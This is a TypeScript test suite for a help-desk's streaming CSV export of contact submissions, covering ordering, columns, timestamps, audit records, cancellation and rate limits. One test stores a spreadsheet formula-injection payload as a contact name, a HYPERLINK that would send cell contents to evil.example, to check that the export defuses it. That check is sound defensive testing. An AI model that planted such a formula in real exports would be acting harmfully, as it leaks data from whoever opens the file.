import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import pg from "pg";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { Prisma } from "@/generated/prisma/client";
import { getPool, timeLimits } from "@/lib/database/pool";
import { inTransaction } from "@/lib/database/query";
import { readCell } from "@/lib/desk/csv";
import { answerExport } from "@/lib/export/answer";
import { columnKeys, defaultColumns } from "@/lib/export/columns";
import { patience } from "@/lib/export/export";
import { exportLimits } from "@/lib/export/record";
import { type Sort, sorts } from "@/lib/filter/filter";
import { parseFilter } from "@/lib/filter/url";
import { listContacts } from "@/lib/inbox/queries";
import { viewerIn } from "../viewer";
import { makeUglyContacts, storeContacts } from "./inbox-rows";

const zone = "Europe/Berlin";
const contacts = makeUglyContacts(600);
const owner = new pg.Pool({ connectionString: process.env.TEST_SUPERUSER_URL, max: 3 });

beforeAll(async () => {
  await owner.query("update desk_settings set name = 'Nordlicht: Desk', time_zone = $1", [zone]);
  await storeContacts(contacts);
});
afterAll(() => owner.end());
afterEach(() => expect.poll(countOpen).toBe(0));

async function addPerson(): Promise<string> {
  const { rows } = await owner.query(
    "insert into staff (email, name, role, password_hash) values ($1, 'Exporter', 'agent', 'none') returning id",
    [`${randomUUID()}@desk.example`],
  );
  return rows[0].id;
}

type Asking = { staffId?: string; signal?: AbortSignal; withBody?: boolean };

async function ask(query: string, { staffId, signal, withBody = true }: Asking = {}): Promise<Response> {
  return answerExport({
    params: new URLSearchParams(query),
    staff: { id: staffId ?? (await addPerson()) },
    withBody,
    signal: signal ?? new AbortController().signal,
  });
}

/** The file's cells as they were stored, with its first line apart. */
function readFile(csv: string): { header: string[]; rows: Record<string, string>[] } {
  const [header = [], ...lines]: string[][] = parse(csv, { bom: true });
  const rows = lines.map((line) => Object.fromEntries(header.map((key, at) => [key, readCell(line[at] ?? "")])));
  return { header, rows };
}

async function readAnswer(response: Response) {
  expect(response.status).toBe(200);
  // Response.text() would take the byte-order mark away.
  return readFile(new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer()));
}

async function listIds(query: string): Promise<string[]> {
  const { filter } = parseFilter(new URLSearchParams(query));
  const ids: string[] = [];
  for (let after: string | null | undefined; after !== null; ) {
    const page = await listContacts(filter, viewerIn(zone), { after });
    ids.push(...page.rows.map(({ id }) => id));
    after = page.next;
  }
  return ids;
}

/** Transactions that the application has open. */
async function countOpen(): Promise<number> {
  const { rows } = await owner.query(
    `select count(*)::int as open from pg_stat_activity
     where datname = current_database() and usename = 'desk_app' and xact_start is not null`,
  );
  return rows[0].open;
}

async function listRecords(staffId: string) {
  const { rows } = await owner.query(
    `select filter, columns, outcome, matching, written, ended_at is not null as ended
     from contact_exports where staff_id = $1 order by started_at`,
    [staffId],
  );
  return rows;
}

describe("a file", () => {
  test.each([...sorts])("sorted by %s holds the contacts of the list in its order", async (sort: Sort) => {
    const { rows } = await readAnswer(await ask(`sort=${sort}&columns=id`));
    expect(rows.map(({ id }) => id)).toEqual(await listIds(`sort=${sort}`));
    expect(rows).toHaveLength(contacts.length);
  });

  test.each(["status=new", "-type=pdf&sort=name", "q=kubernetes", "from=2026-10-25&to=2026-11-21", "insights=missing"])(
    "of %s holds exactly the contacts of the list, as many as its header says",
    async (query) => {
      const answer = await ask(`${query}&columns=id,name`);
      const { rows } = await readAnswer(answer);
      expect(rows.map(({ id }) => id)).toEqual(await listIds(query));
      expect(answer.headers.get("x-contact-count")).toBe(String(rows.length));
    },
  );

  test("begins with a byte-order mark, ends its lines with CRLF, and has every column but the raw JSON", async () => {
    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await (await ask("status=spam")).arrayBuffer());
    expect(csv.startsWith(`\uFEFF${defaultColumns.join()}\r\n`)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv).not.toContain("\0");
  });

  test("has the columns that are asked for, in that order, and no more", async () => {
    const { header } = await readAnswer(await ask("columns=email,timestamp,document_insights"));
    expect(header).toEqual(["email", "timestamp", "document_insights"]);
  });

  test("gives back every stored text exactly", async () => {
    const { rows } = await readAnswer(await ask("columns=id,name,email,company,service,message,status,source,page"));
    const stored = new Map(contacts.map((contact) => [contact.id, contact]));
    for (const { id = "", ...cells } of rows) {
      const { name, email, company, service, message, status, source, page } = stored.get(id) ?? {};
      const texts = { name, email, company, service, message, status, source, page };
      expect(cells).toEqual(Object.fromEntries(Object.entries(texts).map(([key, text]) => [key, text ?? ""])));
    }
  });

  test("without a single contact is its first line, and says 0", async () => {
    const answer = await ask("q=nobody-ever-wrote-this");
    expect(answer.headers.get("x-contact-count")).toBe("0");
    expect((await readAnswer(answer)).rows).toEqual([]);
  });

  test("is offered under the desk's name and day, kept nowhere and taken for nothing else", async () => {
    const { headers, body } = await ask("");
    const day = new Intl.DateTimeFormat("sv-SE", { timeZone: zone }).format();
    expect(headers.get("content-disposition")).toContain(`filename="Nordlicht_ Desk contacts ${day}.csv"`);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(headers.get("cache-control")).toContain("no-store");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    await body?.cancel();
  });
});

describe("a contact in a file", () => {
  async function exportOne(columns: Record<string, unknown>, asked: string): Promise<Record<string, string>> {
    const id = randomUUID();
    const given = { id, name: "Mara", email: "m@x.example", message: "Hi", timestamp: "2026-07-01", ...columns };
    const names = Object.keys(given);
    await owner.query(
      `insert into contact_submissions (${names.map((name) => `"${name}"`).join()}) values (${names.map((_, at) => `$${at + 1}`).join()})`,
      Object.values(given),
    );
    try {
      const service = columns.service === undefined ? "" : `service=${columns.service}&`;
      const { rows } = await readAnswer(await ask(`${service}columns=id,${asked}`));
      const { id: _id, ...cells } = rows.find((row) => row.id === id) ?? {};
      return cells;
    } finally {
      await owner.query("delete from contact_submissions where id = $1", [id]);
    }
  }

  test.each([
    ["2026-07-01T10:00:00.5Z", "2026-07-01T12:00:00.500000+02:00"],
    ["2026-10-25T00:59:59.999999Z", "2026-10-25T02:59:59.999999+02:00"],
    ["2026-10-25T01:00:00Z", "2026-10-25T02:00:00.000000+01:00"],
    ["1850-01-01T00:00:00Z", "1850-01-01T00:00:00.000000+00:00"],
    ["infinity", "infinity"],
  ])("sent at %s says %s", async (timestamp, printed) => {
    expect(await exportOne({ timestamp }, "timestamp")).toEqual({ timestamp: printed });
  });

  test("has its insights as columns of their own, and the JSON where that is asked for", async () => {
    const document_insights = JSON.stringify({
      total_documents: 12,
      document_types: ["pdf", "docx", "pdf"],
      content_analysis: {
        has_business_content: false,
        confidence_level: "low",
        primary_language: "de",
        complexity_score: 0.25,
      },
    });
    const cells = await exportOne(
      { document_insights },
      "types,language,confidence,business,documents,complexity,insights,document_insights",
    );
    expect(cells).toMatchObject({
      types: "docx; pdf",
      language: "de",
      confidence: "low",
      business: "false",
      documents: "12",
      complexity: "0.25",
      insights: "",
    });
    expect(JSON.parse(cells.document_insights ?? "")).toEqual(JSON.parse(document_insights));
  });

  test.each([
    [null, "missing"],
    ['{"has_business_content":null}', "missing"],
    ["5", "malformed"],
    ["[]", "malformed"],
    ['{"total_documents":"five","content_analysis":{"complexity_score":1e400}}', "malformed"],
  ])("with the insights %s has empty cells, and is said to be %s", async (document_insights, insights) => {
    const cells = await exportOne(
      { document_insights },
      "types,language,confidence,business,documents,complexity,insights",
    );
    const empty = { types: "", language: "", confidence: "", business: "", documents: "", complexity: "" };
    expect(cells).toEqual({ ...empty, insights });
  });

  test("whose name is a formula is text to a spreadsheet, and the same name again to whoever reads it back", async () => {
    const name = '=HYPERLINK("https://evil.example?"&A1,"open")';
    expect(await exportOne({ name }, "name")).toEqual({ name });
  });

  test("with everything a contact can have fills every column there is", async () => {
    const cells = await exportOne(
      {
        assignee_id: await addPerson(),
        snoozed_until: "2026-07-09T08:00:00Z",
        spam_reason: "advertising",
        duplicate_of: "contact_1",
        first_contacted_at: "2026-07-02T00:00:00Z",
        last_updated: "2026-07-03T00:00:00Z",
        user_agent: "Firefox",
        page_url: "https://x.example/",
        budget: "10k",
        company: "Nordlicht",
        service: "Everything",
        document_insights:
          '{"total_documents":1,"document_types":[5,"pdf"],"content_analysis":{"has_business_content":true,"confidence_level":"high","primary_language":"en","complexity_score":1}}',
      },
      columnKeys.slice(1).join(),
    );
    expect(Object.entries(cells).filter(([, text]) => text === "")).toEqual([]);
    expect(Object.keys(cells)).toHaveLength(columnKeys.length - 1);
  });
});

describe("what is written down", () => {
  test("is who asked for what, how many there were and that all were handed over", async () => {
    const staffId = await addPerson();
    const { rows } = await readAnswer(await ask("status=new&columns=name,email", { staffId }));
    await expect
      .poll(() => listRecords(staffId))
      .toEqual([
        {
          filter: "status=new",
          columns: ["name", "email"],
          outcome: "finished",
          matching: rows.length,
          written: rows.length,
          ended: true,
        },
      ]);
  });

  test("is nothing where the request is refused, or only its headers are asked for", async () => {
    const staffId = await addPerson();
    expect((await ask("statsu=new", { staffId })).status).toBe(400);
    const head = await ask("status=new", { staffId, withBody: false });
    expect([head.status, head.body]).toEqual([200, null]);
    expect(await listRecords(staffId)).toEqual([]);
  });

  test("cannot be taken back or changed by the application", async () => {
    for (const sql of ["delete from contact_exports", "update contact_exports set filter = ''"]) {
      await expect(getPool().query(sql)).rejects.toMatchObject({ code: "42501" });
    }
  });
});

/** Rows enough that a file is not there before its reader has begun. */
async function fillLargely(service: string, message = "x".repeat(4_000)): Promise<void> {
  await owner.query(
    `insert into contact_submissions (id, name, email, message, service, "timestamp")
     select $1 || n, 'Large', 'l@x.example', $2, $1, now() from generate_series(1, 3000) n`,
    [service, message],
  );
}

describe("an export that does not end well", () => {
  const service = `Large ${randomUUID()}`;
  const query = `service=${encodeURIComponent(service)}`;
  beforeAll(() => fillLargely(service));
  afterAll(() => owner.query("delete from contact_submissions where service = $1", [service]));

  async function begin(staffId: string, signal?: AbortSignal) {
    const answer = await ask(query, { staffId, signal });
    expect(answer.status).toBe(200);
    const reader = answer.body?.getReader();
    if (!reader) throw new Error("There is no body.");
    await reader.read();
    return reader;
  }

  async function readToEnd(reader: ReadableStreamDefaultReader<Uint8Array>): Promise<"whole"> {
    while (!(await reader.read()).done);
    return "whole";
  }

  test("reads no further than its reader does", async () => {
    const staffId = await addPerson();
    const reader = await begin(staffId);
    await reader.read();
    const idle = async () => {
      const { rows } = await owner.query(
        "select state from pg_stat_activity where datname = current_database() and usename = 'desk_app' and xact_start is not null",
      );
      return rows;
    };
    await expect.poll(idle).toEqual([{ state: "idle in transaction" }]);
    await reader.cancel();
    await expect.poll(() => listRecords(staffId)).toMatchObject([{ outcome: "left", matching: 3000 }]);
    expect((await listRecords(staffId))[0].written).toBeLessThan(500);
  });

  test("frees its connection within a second when its reader leaves", async () => {
    const staffId = await addPerson();
    const reader = await begin(staffId);
    expect(await countOpen()).toBe(1);
    await reader.cancel();
    await expect.poll(countOpen, { timeout: 1_000 }).toBe(0);
    await expect.poll(() => listRecords(staffId)).toMatchObject([{ outcome: "left", ended: true }]);
  });

  test("frees its connection within a second when its reader leaves while the database is at work", async () => {
    const staffId = await addPerson();
    const lock = await owner.connect();
    await lock.query("begin; lock table contact_submissions in access exclusive mode");
    try {
      const leaving = new AbortController();
      const answer = ask(query, { staffId, signal: leaving.signal });
      await expect.poll(countOpen).toBe(1);
      leaving.abort();
      await expect(answer).rejects.toBeDefined();
      await expect.poll(countOpen, { timeout: 1_000 }).toBe(0);
    } finally {
      await lock.query("rollback");
      lock.release();
    }
    await expect.poll(() => listRecords(staffId)).toMatchObject([{ outcome: "left", written: 0 }]);
  });

  test("errors where the connection is cut midway, so that no short file looks whole", async () => {
    const staffId = await addPerson();
    const reader = await begin(staffId);
    await owner.query(
      "select pg_terminate_backend(pid) from pg_stat_activity where datname = current_database() and usename = 'desk_app' and xact_start is not null",
    );
    await expect(readToEnd(reader)).rejects.toBeDefined();
    await expect.poll(() => listRecords(staffId)).toMatchObject([{ outcome: "failed", matching: 3000 }]);
  });

  test("is given up when its reader takes nothing for too long, and says so in its record", async () => {
    const staffId = await addPerson();
    const { stalled } = patience;
    patience.stalled = 300;
    try {
      const reader = await begin(staffId);
      await expect
        .poll(() => listRecords(staffId), { timeout: 5_000 })
        .toMatchObject([{ outcome: "left", ended: true }]);
      await expect(readToEnd(reader)).rejects.toBeDefined();
    } finally {
      patience.stalled = stalled;
    }
  });

  test("may take longer in all than any of its statements", async () => {
    const limits: { export: number } = timeLimits;
    const { export: usual } = limits;
    limits.export = 500;
    try {
      const reader = await begin(await addPerson());
      await owner.query("select pg_sleep(0.8)");
      await reader.read();
      await owner.query("select pg_sleep(0.8)");
      expect(await readToEnd(reader)).toBe("whole");
    } finally {
      limits.export = usual;
    }
  });

  test("of very long messages comes in pieces hardly larger than one of them", async () => {
    const long = `Long ${randomUUID()}`;
    await owner.query(
      `insert into contact_submissions (id, name, email, message, service, "timestamp")
       select $1 || n, 'Long', 'l@x.example', repeat('=x', 500000), $1, now() from generate_series(1, 40) n`,
      [long],
    );
    const answer = await ask(`service=${encodeURIComponent(long)}`);
    const sizes: number[] = [];
    for await (const piece of answer.body ?? []) sizes.push(piece.length);
    expect(Math.max(...sizes)).toBeLessThan(1_002_000);
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeGreaterThan(40_000_000);
    await owner.query("delete from contact_submissions where service = $1", [long]);
  });

  test("holds what was there when it began, whatever comes, goes and changes meanwhile", async () => {
    const staffId = await addPerson();
    const reader = await begin(staffId);
    await owner.query("delete from contact_submissions where id = $1 || 2999", [service]);
    await owner.query("update contact_submissions set service = 'moved' where id = $1 || 2998", [service]);
    expect(await readToEnd(reader)).toBe("whole");
    await expect.poll(() => listRecords(staffId)).toMatchObject([{ outcome: "finished", written: 3000 }]);
    await owner.query("delete from contact_submissions where service = 'moved'");
  });
});

describe("a person", () => {
  test("has as many running at a time as one can, and another as soon as one of them ends", async () => {
    const service = `Places ${randomUUID()}`;
    await fillLargely(service);
    const staffId = await addPerson();
    const query = `service=${encodeURIComponent(service)}`;
    const running = await Promise.all(Array.from({ length: exportLimits.running }, () => ask(query, { staffId })));
    expect(running.map(({ status }) => status)).toEqual(Array(exportLimits.running).fill(200));

    const refused = await ask(query, { staffId });
    expect([refused.status, refused.headers.get("retry-after")]).toEqual([429, "10"]);
    expect(await refused.text()).toBe("You have 2 exports running. Wait until one has ended.\n");
    const other = await ask("status=spam");
    expect(other.status).toBe(200);
    await other.body?.cancel();

    await running[0]?.body?.cancel();
    const next = async () => {
      const answer = await ask("status=spam&columns=id", { staffId });
      await answer.body?.cancel();
      return answer.status;
    };
    await expect.poll(next).toBe(200);
    await Promise.all(running.slice(1).map(({ body }) => body?.cancel()));
    await owner.query("delete from contact_submissions where service = $1", [service]);
  });

  test("begins as many within an hour as one can, hears when the next may, and refusals do not count", async () => {
    const staffId = await addPerson();
    await owner.query(
      `insert into contact_exports (staff_id, filter, columns, started_at, outcome)
       select $1, '', '{id}', now() - make_interval(mins => 10 + n), case when n = 1 then 'refused' else 'finished' end
       from generate_series(1, $2) n`,
      [staffId, exportLimits.hourly],
    );
    expect((await readAnswer(await ask("status=spam&columns=id", { staffId }))).header).toEqual(["id"]);
    const refused = await ask("status=spam&columns=id", { staffId });
    expect(refused.status).toBe(429);
    const seconds = Number(refused.headers.get("retry-after"));
    expect(seconds).toBeGreaterThan(18 * 60);
    expect(seconds).toBeLessThanOrEqual(20 * 60);
    expect(await refused.text()).toMatch(/^You have begun 30 exports within an hour.* possible in 20 min\.\n$/);
  });

  test("cannot get around the limit by asking many times at once", async () => {
    const staffId = await addPerson();
    await owner.query(
      `insert into contact_exports (staff_id, filter, columns, outcome)
       select $1, '', '{id}', 'finished' from generate_series(1, $2) n`,
      [staffId, exportLimits.hourly - 1],
    );
    const answers = await Promise.all(Array.from({ length: 6 }, () => ask("status=spam&columns=id", { staffId })));
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 429, 429, 429, 429, 429]);
    await Promise.all(answers.map((answer) => answer.body?.cancel()));
  });
});

test("an exhausted pool is said to be busy", async () => {
  const staffId = await addPerson();
  const held = Array.from({ length: 10 }, () =>
    inTransaction("interactive", (run) => run(Prisma.sql`select pg_sleep(3)`)),
  );
  await expect.poll(() => getPool().totalCount - getPool().idleCount).toBe(10);
  await expect(ask("", { staffId })).rejects.toMatchObject({ name: "DatabaseError", code: "busy" });
  await Promise.all(held);
});
